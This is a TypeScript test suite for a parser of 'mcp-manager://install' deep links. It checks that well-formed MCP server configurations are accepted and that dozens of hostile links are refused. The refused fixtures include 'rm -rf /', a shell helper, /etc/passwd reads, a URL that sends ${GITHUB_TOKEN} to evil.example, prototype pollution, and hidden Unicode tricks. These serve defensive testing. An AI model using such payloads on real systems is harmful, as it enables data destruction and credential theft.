import { describe, expect, test } from 'vitest'
import { maxLinkLength, parseInstallLink } from '../../../src/main/parse-install-link.ts'

const plain = { command: 'npx', args: ['-y', 'some-server'], env: { TOKEN: '' } }

function base64(value: unknown): string {
  return Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64')
}

function link(config: unknown, name = 'some'): string {
  return `mcp-manager://install?${new URLSearchParams({ name, config: base64(config) }).toString()}`
}

describe('what a link may ask for', () => {
  test('a command with its arguments and variables', () => {
    expect(parseInstallLink(link(plain))).toEqual({
      ok: true,
      name: 'some',
      text: JSON.stringify({ mcpServers: { some: plain } }, null, 2),
    })
  })

  test('a remote server', () => {
    const config = { type: 'http', url: 'https://example.com/mcp', headers: { 'X-Team': 'a' } }
    const read = parseInstallLink(link(config, 'Zoë’s server'))
    expect(read).toMatchObject({ ok: true, name: 'Zoë’s server' })
    expect(read.ok && JSON.parse(read.text)).toEqual({ mcpServers: { 'Zoë’s server': config } })
  })

  test('base64 of either alphabet, with or without padding, with plus signs that were not encoded', () => {
    // Its base64 holds both + and /.
    const config = { command: 'npx', args: ['???>>>~~~', '>>>'] }
    const digits = base64(config)
    expect(digits).toMatch(/\+/)
    expect(digits).toMatch(/\//)
    for (const written of [
      digits,
      encodeURIComponent(digits),
      digits.replaceAll('=', ''),
      Buffer.from(JSON.stringify(config)).toString('base64url'),
    ]) {
      expect(parseInstallLink(`mcp-manager://install?name=a&config=${written}`)).toMatchObject({
        ok: true,
      })
    }
  })

  test('a doubled key is not left for a second reader', () => {
    const read = parseInstallLink(link('{"command":"ls","command":"rm","args":[]}'))
    expect(read.ok && JSON.parse(read.text)).toEqual({
      mcpServers: { some: { command: 'rm', args: [] } },
    })
    expect(read.ok && read.text).not.toContain('"ls"')
  })
})

describe('hostile links are refused', () => {
  const config = base64(plain)
  const cases: readonly (readonly [what: string, link: string, fault: string])[] = [
    ['endless', `mcp-manager://install?name=a&config=${'A'.repeat(maxLinkLength)}`, 'too_long'],
    ['no link', 'npx -y evil', 'malformed'],
    ['empty', '', 'malformed'],
    ['another scheme', `https://install/?name=a&config=${config}`, 'malformed'],
    ['script', 'javascript:alert(1)', 'malformed'],
    ['another action', `mcp-manager://run?name=a&config=${config}`, 'unknown_action'],
    [
      'an action in other letters',
      `mcp-manager://INSTALL?name=a&config=${config}`,
      'unknown_action',
    ],
    ['no action', `mcp-manager:install?name=a&config=${config}`, 'malformed'],
    ['a path', `mcp-manager://install/../run?name=a&config=${config}`, 'malformed'],
    ['a user', `mcp-manager://me:pw@install?name=a&config=${config}`, 'malformed'],
    ['a port', `mcp-manager://install:80?name=a&config=${config}`, 'malformed'],
    ['a fragment', `mcp-manager://install?name=a&config=${config}#/settings`, 'malformed'],
    ['one parameter more', `mcp-manager://install?name=a&config=${config}&start=1`, 'malformed'],
    [
      'two configurations',
      `mcp-manager://install?name=a&config=${config}&config=${config}`,
      'malformed',
    ],
    ['no name', `mcp-manager://install?config=${config}`, 'malformed'],
    ['a blank name', link(plain, '   '), 'name'],
    ['a name with blanks around it', link(plain, ' some'), 'name'],
    ['a long name', link(plain, 'n'.repeat(101)), 'name'],
    ['a name of several lines', link(plain, 'good\nCommand: ls'), 'hidden_characters'],
    ['a name that reads backwards', link(plain, 'good\u202Etxt.exe'), 'hidden_characters'],
    [
      'a raw control character',
      `mcp-manager://install?name=a\u0000&config=${config}`,
      'hidden_characters',
    ],
    ['no base64', 'mcp-manager://install?name=a&config=%7B%22command%22%3A%22ls%22%7D', 'config'],
    ['no JSON', link('rm -rf /'), 'config'],
    [
      'no UTF-8',
      `mcp-manager://install?name=a&config=${Buffer.from([0xff, 0xfe]).toString('base64')}`,
      'config',
    ],
    ['a list', link([plain]), 'config'],
    ['no server', link({}), 'config'],
    ['a command that is a list', link({ command: ['ls'] }), 'config'],
    ['arguments that are no texts', link({ command: 'ls', args: [{ toString: 'x' }] }), 'config'],
    ['command and address', link({ command: 'ls', url: 'https://example.com' }), 'config'],
    ['a key in other letters', link({ command: 'ls', Command: 'rm' }), 'config'],
    ['a key of prototypes', link('{"command":"ls","__proto__":{"args":["-rf"]}}'), 'config'],
    [
      'a helper that runs',
      link({ url: 'https://example.com', headersHelper: 'sh evil' }),
      'config',
    ],
    ['a file of variables', link({ command: 'ls', envFile: '/etc/passwd' }), 'config'],
    ['a working directory', link({ command: 'ls', cwd: '/' }), 'config'],
    ['an address that is a file', link({ url: 'file:///etc/passwd' }), 'config'],
    [
      'many arguments',
      link({ command: 'ls', args: Array.from({ length: 201 }, () => 'x') }),
      'config',
    ],
    ['an argument that hides', link({ command: 'ls', args: ['safe\u200B'] }), 'hidden_characters'],
    [
      'an argument after many lines',
      link({ command: 'ls', args: [`a${'\n'.repeat(99)}b`] }),
      'hidden_characters',
    ],
    [
      'a tag in a variable',
      link({ command: 'ls', env: { 'A\u{e0041}': 'x' } }),
      'hidden_characters',
    ],
    [
      'a variable of this computer',
      link({ url: 'https://evil.example/${GITHUB_TOKEN}' }),
      'variables',
    ],
    ['a variable of Windows', link({ command: 'ls', args: ['%USERPROFILE%'] }), 'variables'],
    [
      'a secret of another server',
      link({ command: 'ls', env: { A: 'secret://github' } }),
      'variables',
    ],
  ]
  for (const [what, hostile, fault] of cases) {
    test(what, () => expect(parseInstallLink(hostile)).toEqual({ ok: false, fault }))
  }
})
